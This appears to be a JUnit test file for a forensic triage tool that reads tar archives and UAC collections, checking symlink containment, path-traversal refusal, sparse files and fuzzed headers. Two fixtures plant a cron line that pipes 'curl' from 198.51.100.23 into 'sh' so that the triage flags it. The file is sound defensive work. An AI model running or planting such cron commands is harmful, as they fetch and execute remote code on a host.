package davy.agent.archive;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import davy.agent.check.Options;
import davy.agent.triage.Progress;
import davy.agent.triage.Triage;
import davy.core.host.FileInfo;
import davy.core.host.FileType;
import davy.core.host.FileView;
import davy.core.host.FileVisitor;
import davy.core.host.Host;
import davy.core.text.Language;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.RandomAccessFile;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.FileTime;
import java.nio.file.attribute.PosixFilePermissions;
import java.time.Instant;
import java.time.temporal.ChronoUnit;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Random;
import java.util.SortedMap;
import java.util.TreeMap;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/// Tars made by tar(1), and by nobody of good will.
final class TarHostTest {
    private static final Instant THEN = Instant.parse("2025-03-04T05:06:07Z");

    @TempDir private Path folder;

    private Path tree() throws IOException {
        Path root = Files.createDirectories(folder.resolve("tree"));
        Files.createDirectories(root.resolve("etc/cron.d"));
        Files.createDirectories(root.resolve("usr/bin"));
        Files.writeString(root.resolve("etc/hostname"), "web-03\n");
        Files.writeString(root.resolve("usr/bin/" + "n".repeat(95)), "long");
        Files.writeString(root.resolve("usr/bin/tool"), "#!/bin/sh\n");
        Files.setPosixFilePermissions(
                root.resolve("usr/bin/tool"), PosixFilePermissions.fromString("rwxr-x--x"));
        Files.setLastModifiedTime(root.resolve("usr/bin/tool"), FileTime.from(THEN));
        Files.createLink(root.resolve("usr/bin/same"), root.resolve("usr/bin/tool"));
        Files.createSymbolicLink(root.resolve("bin"), Path.of("usr/bin"));
        Files.createSymbolicLink(
                root.resolve("etc/out"), Path.of("../../../../../../../../etc/hostname"));
        Files.createSymbolicLink(root.resolve("etc/loop"), Path.of("loop"));
        return root;
    }

    private Host pack(Path root, String... options) throws Exception {
        Path file = folder.resolve("x.tar");
        var command =
                new ArrayList<>(List.of("tar", "-cf", file.toString(), "-C", root.toString()));
        command.addAll(List.of(options));
        var process = new ProcessBuilder(command).inheritIO().start();
        assertThat(process.waitFor()).isZero();
        return Archives.open(file);
    }

    @Test
    void readsEveryForm() throws Exception {
        Path tree = tree();
        for (String form : List.of("--format=ustar", "--format=pax", "--format=gnu", "-z")) {
            var host = pack(tree, form, ".");
            try (var _ = (Archived) host) {
                check(host);
            }
        }
    }

    /// As Docker's `export` and others wrap it.
    @Test
    void findsTheRootInAFolder() throws Exception {
        tree();
        var host = pack(folder, "tree");
        try (var _ = (Archived) host) {
            check(host);
        }
    }

    private static void check(Host host) {
        assertThat(host.kind()).isEqualTo(Host.Kind.IMAGE);
        assertThat(host.lines("/etc/hostname")).containsExactly("web-03");
        assertThat(host.lines("/etc/out")).as("links stay inside").containsExactly("web-03");
        assertThat(host.text("/etc/loop")).isNull();
        assertThat(host.resolve("/bin/tool")).isEqualTo("/usr/bin/tool");
        assertThat(host.readLink("/bin")).isEqualTo("usr/bin");
        assertThat(host.text("/bin/same")).isEqualTo("#!/bin/sh\n");
        assertThat(host.text("/bin/" + "n".repeat(95))).isEqualTo("long");
        byte[] part = new byte[4];
        assertThat(
                        host.open(
                                "/etc/out",
                                file -> assertThat(file.readAt(1, part, 1, 3)).isEqualTo(3)))
                .isTrue();
        assertThat(part).containsExactly(0, 'e', 'b', '-');
        var tool = host.lstat("/usr/bin/tool");
        assertThat(tool).isNotNull();
        assertThat(tool.mode()).isEqualTo(0751);
        assertThat(tool.modified()).isEqualTo(THEN);
        assertThat(tool.size()).isEqualTo(10);
        assertThat(host.list("/")).containsExactly("bin", "etc", "usr");
        assertThat(walked(host))
                .containsEntry("/etc/hostname", FileType.REGULAR)
                .containsEntry("/bin", FileType.LINK)
                .containsEntry("/etc/cron.d", FileType.DIRECTORY)
                .doesNotContainKey("/bin/tool");
    }

    /// A time that anybody can set is not told as the one that only the kernel sets.
    @Test
    void tellsNoTimesThatItDoesNotKeep() throws Exception {
        Path tree = tree();
        Path job = tree.resolve("etc/cron.d/x");
        Files.writeString(job, "* * * * * root curl -fsSL http://198.51.100.23/b | sh\n");
        var changed = (FileTime) Files.getAttribute(job, "unix:ctime");
        String second = changed.toInstant().truncatedTo(ChronoUnit.SECONDS).toString();
        for (String form : List.of("--format=ustar", "--format=gnu", "--format=pax")) {
            var host = pack(tree, form, ".");
            try (var _ = (Archived) host) {
                var report = SampleCollection.triage(host);
                boolean keeps = form.endsWith("pax");
                assertThat(report.findings()).isNotEmpty();
                assertThat(report.findings().getFirst().evidence())
                        .as(form)
                        .containsKey("file.mtime")
                        .doesNotContainKey("file.created")
                        .extractingByKey("file.ctime")
                        .isEqualTo(keeps ? second : null);
                assertThat(SampleCollection.missed(report).stream())
                        .filteredOn(text -> text.contains("keeps no change or creation times"))
                        .hasSize(keeps ? 0 : 1);
            }
        }
    }

    static SortedMap<String, FileType> walked(Host host) {
        var seen = new TreeMap<String, FileType>();
        host.walk(
                "/",
                new FileVisitor() {
                    @Override
                    public boolean enter(String directory, FileInfo info) {
                        return true;
                    }

                    @Override
                    public void visit(FileView file) {
                        seen.put(file.path(), file.info().type());
                    }
                });
        return seen;
    }

    /// As UAC 3 lays it out: its log first, then files only, no directories and no links; the body
    /// file by statx. The same in a folder, as analysts pack it again.
    @Test
    void readsUac() throws Exception {
        Path uac = uac();
        var members =
                List.of(
                        "uac.log",
                        "live_response/process/ps_auxwww.txt",
                        "bodyfile/bodyfile.txt",
                        "[root]/etc/passwd",
                        "[root]/etc/crontab");
        var host = pack(uac, members.toArray(String[]::new));
        try (var archive = (Archived) host) {
            checkUac(host, archive);
        }
        var again = pack(folder, "-z", "uac-web-03-linux-20250304050607");
        try (var archive = (Archived) again) {
            checkUac(again, archive);
        }
    }

    private Path uac() throws IOException {
        Path uac = Files.createDirectories(folder.resolve("uac-web-03-linux-20250304050607"));
        Files.createDirectories(uac.resolve("[root]/etc"));
        Files.createDirectories(uac.resolve("live_response/process"));
        Files.createDirectories(uac.resolve("bodyfile"));
        Files.writeString(uac.resolve("uac.log"), "2025-03-04 05:06:07 +0000 INF UAC 3.1.0\n");
        Files.setLastModifiedTime(uac.resolve("uac.log"), FileTime.from(THEN));
        Files.writeString(uac.resolve("live_response/process/ps_auxwww.txt"), "root 1 init\n");
        Files.writeString(uac.resolve("[root]/etc/passwd"), "root:x:0:0::/root:/bin/sh\n");
        Files.writeString(
                uac.resolve("[root]/etc/crontab"),
                "*/5 * * * * root curl -fsSL http://198.51.100.23/b.sh | sh\n");
        Files.writeString(
                uac.resolve("bodyfile/bodyfile.txt"),
                """
                0|/|2|drwxr-xr-x|0|0|4096|1|2|3|0
                0|/etc/passwd|7|-rw-r--r--|0|0|26|1741064767|1741064768|1741064769|1741064700
                0|/usr/bin/odd|name|8|-rwsr-xr-t|33|34|5000|1|2|3|0
                0|/usr/bin|8|drwxr-x---|1|2|4096|1|2|3|0
                0|/bin -> usr/bin|9|lrwxrwxrwx|0|0|7|1|2|3|0
                0|/bin/below/a/link|9|-rw-r--r--|0|0|7|1|2|3|0
                0|/../../x|9|-rw-r--r--|0|0|7|1|2|3|0
                no line of a body file
                0|/last line without an end|9|crw-r--r--|0|0|7|1|2|3|0\
                """);
        return uac;
    }

    private static void checkUac(Host host, Archived archive) {
        assertThat(archive.moment()).isEqualTo(THEN);
        assertThat(archive.told().in(Language.EN)).contains("UAC");
        assertThat(host.text("/etc/passwd")).startsWith("root:x:0");
        var passwd = host.stat("/etc/passwd");
        assertThat(passwd).isNotNull();
        assertThat(passwd.changed()).isEqualTo(Instant.ofEpochSecond(1741064769));
        assertThat(passwd.born()).isEqualTo(Instant.ofEpochSecond(1741064700));
        var odd = host.stat("/bin/odd|name");
        assertThat(odd).isNotNull();
        assertThat(odd.mode()).isEqualTo(05755);
        assertThat(odd.uid()).isEqualTo(33);
        assertThat(odd.size()).isEqualTo(5000);
        var bin = host.stat("/usr/bin");
        assertThat(bin).isNotNull();
        assertThat(bin.mode()).isEqualTo(0750);
        assertThat(bin.isDirectory()).isTrue();
        assertThat(host.exists("/x")).isFalse();
        assertThat(host.exists("/live_response")).isFalse();
        assertThat(host.exists("/last line without an end")).isTrue();
        assertThat(host.text("/bin/odd|name")).isNull();
        assertThat(host.unseen())
                .anyMatch(u -> u.what().equals("live_response"))
                .anyMatch(u -> u.what().equals("/bin/odd|name"));
        var report =
                new Triage(
                                host,
                                "uac.tar",
                                archive.moment(),
                                Options.standard(),
                                Progress.SILENT,
                                _ -> {})
                        .run();
        assertThat(report.findings())
                .anyMatch(f -> f.evidence().toString().contains("198.51.100.23"));
    }

    /// Holes: what is not there is not said to be empty.
    @Test
    void doesNotReadSparseFiles() throws Exception {
        Path tree = tree();
        try (var file = new RandomAccessFile(tree.resolve("etc/sparse").toFile(), "rw")) {
            file.seek(5 << 20);
            file.write(7);
        }
        for (String form : List.of("--format=gnu", "--format=pax")) {
            var host = pack(tree, "-S", form, ".");
            try (var _ = (Archived) host) {
                check(host);
                var info = host.stat("/etc/sparse");
                assertThat(info).isNotNull();
                assertThat(info.size()).isEqualTo((5 << 20) + 1);
                assertThat(host.read("/etc/sparse", 10)).isNull();
                assertThat(host.unseen()).anyMatch(u -> u.what().equals("/etc/sparse"));
            }
        }
    }

    /// More names than memory.
    @Test
    void refusesTooManyFiles() throws IOException {
        var tar = new ByteArrayOutputStream();
        for (int i = 0; i < 2000; i++) {
            tar.write(Tar.header("file" + i, 0));
        }
        var members = new Tar(new ByteArrayInputStream(tar.toByteArray()));
        var first = members.next();
        assertThat(first).isNotNull();
        try (var store = new Store(0)) {
            var tree = new FileTree(100_000);
            assertThatThrownBy(() -> tree.fill(members, first, store))
                    .hasMessageContaining("more than memory holds");
        }
    }

    /// A file below a link of the archive is nowhere.
    @Test
    void putsNothingBehindLinks() throws IOException {
        byte[] link = Tar.header("lib", 0);
        link[156] = '2';
        System.arraycopy("/etc".getBytes(StandardCharsets.US_ASCII), 0, link, 157, 4);
        var tar = new ByteArrayOutputStream();
        tar.write(BadArchiveTest.sum(link));
        tar.write(Tar.header("lib/passwd", 0));
        tar.write(Tar.header("etc/shadow", 0));
        var host = Archives.open(Files.write(folder.resolve("evil.tar"), tar.toByteArray()));
        try (var _ = (Archived) host) {
            assertThat(walked(host).keySet())
                    .containsExactlyInAnyOrder("/lib", "/etc", "/etc/shadow");
            assertThat(host.exists("/lib/shadow")).isTrue();
            assertThat(host.exists("/etc/passwd")).isFalse();
            assertThat(host.unseen().toString()).contains("lead out of it");
        }
    }

    @Test
    void refusesNamesThatLeadOut() throws IOException {
        var tar = new ByteArrayOutputStream();
        for (String name :
                List.of("../../evil", "etc/../../evil", "/etc/hostname", "etc/hostname")) {
            byte[] text = (name + "\n").getBytes(StandardCharsets.US_ASCII);
            tar.write(Tar.header(name, text.length));
            tar.write(text);
            tar.write(new byte[512 - text.length]);
        }
        tar.write(new byte[1024]);
        var host = Archives.open(Files.write(folder.resolve("evil.tar"), tar.toByteArray()));
        try (var _ = (Archived) host) {
            assertThat(walked(host).keySet()).containsExactly("/etc", "/etc/hostname");
            assertThat(host.text("/etc/hostname")).isEqualTo("etc/hostname\n");
            assertThat(host.unseen().toString()).contains("lead out of it", "there twice");
        }
        assertThat(folder.resolve("../../evil")).doesNotExist();
    }

    /// Bytes changed in the headers, whose sums are made right again: read, or refused with a
    /// reason. More of them: `-Ddavy.mutations=N`.
    @Test
    void damagedHeadersDoNoHarm() throws Exception {
        Path tree = tree();
        Files.writeString(tree.resolve("etc/" + "l".repeat(120)), "long name");
        var tars = new ArrayList<byte[]>();
        for (String form : List.of("--format=pax", "--format=gnu")) {
            ((Archived) pack(tree, form, ".")).close();
            tars.add(Files.readAllBytes(folder.resolve("x.tar")));
        }
        var random = new Random(17);
        int refused = 0;
        int count = Integer.getInteger("davy.mutations", 600);
        for (int i = 0; i < count; i++) {
            byte[] tar = tars.get(i % tars.size()).clone();
            for (int change = random.nextInt(1, 5); change > 0; change--) {
                int block = random.nextInt(Math.min(tar.length / 512, 40));
                mutate(tar, block * 512, random);
            }
            Path file = Files.write(folder.resolve("bad.tar"), tar);
            try {
                readAll(Archives.open(file));
            } catch (ArchiveException e) {
                assertThat(e.why().in(Language.ZH)).isNotBlank();
                refused++;
            }
        }
        assertThat(refused).isBetween(count / 100, count - count / 100);
    }

    private static void mutate(byte[] tar, int block, Random random) {
        boolean header = tar[block + 257] == 'u';
        byte value =
                random.nextBoolean()
                        ? (byte) "0157xgLKS/.\0\377".charAt(random.nextInt(13))
                        : (byte) random.nextInt();
        int[] fields = {0, 1, 100, 108, 124, 130, 136, 156, 157, 257, 345, 482, 483};
        int at =
                header && random.nextInt(3) > 0
                        ? fields[random.nextInt(fields.length)]
                        : random.nextInt(512);
        tar[block + at] = value;
        if (header) {
            byte[] sum = BadArchiveTest.sum(Arrays.copyOfRange(tar, block, block + 512));
            System.arraycopy(sum, 0, tar, block, 512);
        }
    }

    private static void readAll(Host host) throws IOException {
        try (var archive = (Archived) host) {
            for (String path : walked(host).keySet()) {
                assertThat(path).startsWith("/").doesNotContain("/../");
                host.text(path);
                host.resolve(path);
                host.list(path);
                host.attribute(path, "user.x");
            }
            assertThat(archive.moment()).isNotNull();
        }
    }

    @Test
    void refusesWhatIsNoTar() throws IOException {
        Path file = Files.writeString(folder.resolve("x"), "no tar ".repeat(200));
        assertThatThrownBy(() -> Archives.open(file)).hasMessageContaining("neither a tar nor");
    }
}
